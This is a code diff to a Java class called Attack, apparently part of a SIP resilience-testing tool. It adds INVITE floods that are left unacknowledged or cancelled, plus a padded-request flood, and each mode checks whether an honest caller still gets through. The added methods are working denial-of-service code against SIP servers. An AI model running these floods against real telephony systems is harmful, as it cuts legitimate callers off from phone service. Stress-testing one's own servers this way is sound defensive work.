@@ -25,6 +25,9 @@ public final class Attack {
         switch (words.getFirst()) {
             case "reflection" -> attack.reflection();
             case "move" -> attack.move();
+            case "unacknowledged" -> attack.calls(false);
+            case "cancelled" -> attack.calls(true);
+            case "flood" -> attack.flood();
             default -> throw new IllegalArgumentException(words.getFirst());
         }
     }
@@ -63,6 +66,53 @@ public final class Attack {
             report("re-INVITE", status, call, bystander);
             call.hangsUp();
         }
+    }
+
+    /** INVITEs that nobody acknowledges, and an honest caller each second. */
+    private void calls(boolean cancelled) throws IOException, InterruptedException {
+        Honest honest = new Honest(target);
+        try (DatagramSocket socket = RawCall.socket(target)) {
+            socket.setReceiveBufferSize(4096); // what is answered is not read
+            for (int i = 0; i < target.seconds() * target.perSecond(); i++) {
+                if (i % target.perSecond() == target.perSecond() / 2) {
+                    honest.calls();
+                }
+                RawCall call = new RawCall(socket, target);
+                call.invites(RawCall.sdp(target.from(), 40_000));
+                if (cancelled) {
+                    call.cancels();
+                }
+                Thread.sleep(1000 / target.perSecond());
+            }
+        }
+        out.println("INVITEs not acknowledged: " + target.seconds() * target.perSecond());
+        out.println(honest.report());
+    }
+
+    /** Requests that belong to no call, and an honest caller each second. */
+    private void flood() throws IOException, InterruptedException {
+        Honest honest = new Honest(target);
+        String filling = "X-Filling: " + "x".repeat(Math.max(0, target.octets() - 400)) + "\r\n";
+        long sent = 0;
+        try (DatagramSocket socket = RawCall.socket(target)) {
+            socket.setReceiveBufferSize(4096);
+            long start = System.nanoTime();
+            for (int second = 0; second < target.seconds(); second++) {
+                honest.calls();
+                for (int i = 0; i < target.perSecond(); i++) {
+                    new RawCall(socket, target).asks(target.method(), filling);
+                    long ahead =
+                            start
+                                    + ++sent * 1_000_000_000L / target.perSecond()
+                                    - System.nanoTime();
+                    if (ahead > 1_000_000) {
+                        Thread.sleep(ahead / 1_000_000);
+                    }
+                }
+            }
+        }
+        out.printf("%s sent: %d, of some %d octets%n", target.method(), sent, target.octets());
+        out.println(honest.report());
     }
 
     private void report(String what, int status, RawCall call, Bystander bystander) {
